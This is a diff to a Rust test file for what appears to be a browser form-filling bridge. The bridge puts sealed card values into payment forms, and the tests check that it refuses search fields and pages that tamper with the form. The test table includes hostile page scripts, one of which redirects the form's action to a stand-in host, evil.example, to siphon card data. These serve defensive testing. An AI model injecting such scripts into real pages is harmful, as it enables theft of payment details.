@@ -60,6 +60,20 @@ const FORM: &str = r#"<form action="/pay" method="post"><input aria-label="Card"
 <button>Pay</button></form>"#;
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_search_takes_no_sealed_value_and_a_text_area_does() {
+    let server = Server::start();
+    let browser = launch(&server).await;
+    let html = r#"<form action="/pay" method="post"><input type="search" name="find" aria-label="Find">
+        <textarea name="street" aria-label="Street"></textarea><button>Pay</button></form>"#;
+    let tab = page(&browser, &server, html).await;
+    let seen = form(&tab).await;
+    let find = tab.fill(sealed(&seen, &[("street", CARD), ("find", CARD)])).await;
+    assert_eq!(find.err(), Some(BridgeError::Diverted));
+    let street = tab.fill(sealed(&seen, &[("street", CARD)])).await;
+    assert_eq!(street.map(|report| report.controls), Ok(1));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_plain_form_is_filled_once_and_submitted() {
     let server = Server::start();
     let browser = launch(&server).await;
@@ -67,8 +81,6 @@ async fn a_plain_form_is_filled_once_and_submitted() {
     server.page("shop.example", "/pay", "<title>Thanks</title>");
     let seen = form(&tab).await;
 
-    let note = tab.fill(sealed(&seen, &[("card", CARD), ("note", CARD)])).await;
-    assert_eq!(note.err(), Some(BridgeError::Diverted), "free text takes no sealed value");
     let code = tab.fill(sealed(&seen, &[("card", CARD), ("code", "12345")])).await;
     assert_eq!(code.err(), Some(BridgeError::NotApplicable), "longer than the control");
     let month = tab.fill(sealed(&seen, &[("card", CARD), ("month", "March")])).await;
@@ -197,7 +209,8 @@ async fn a_form_that_changed_since_the_decision_is_not_filled() {
         ("c.readOnly=true", BridgeError::NotApplicable),
         ("c.addEventListener('input',()=>{c.value='1'})", BridgeError::Diverted),
         ("c.addEventListener('change',()=>{f.action='http://evil.example/'})", BridgeError::Diverted),
-        ("c.addEventListener('input',()=>c.remove())", BridgeError::Stale),
+        // The page has seen the value.
+        ("c.addEventListener('input',()=>c.remove())", BridgeError::Diverted),
         ("location.reload()", BridgeError::Stale),
         ("location.href='/?again'", BridgeError::Stale),
     ] {
